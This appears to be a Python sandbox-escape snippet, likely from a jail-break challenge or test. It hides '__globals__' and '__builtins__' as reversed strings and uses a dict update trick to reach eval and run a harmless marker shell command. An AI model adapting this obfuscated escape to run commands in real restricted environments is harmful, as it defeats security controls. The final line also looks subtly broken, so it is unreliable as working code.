def rev(t):
    return t[::-1]
E = rev("__slabolg__")
d = {"a": "zone"}
e = d
e |= [("a", E)]
getattr(rev, d["a"])[rev("__snitliub__")].eval("__import__('os').system('expr 1000 + 41')")
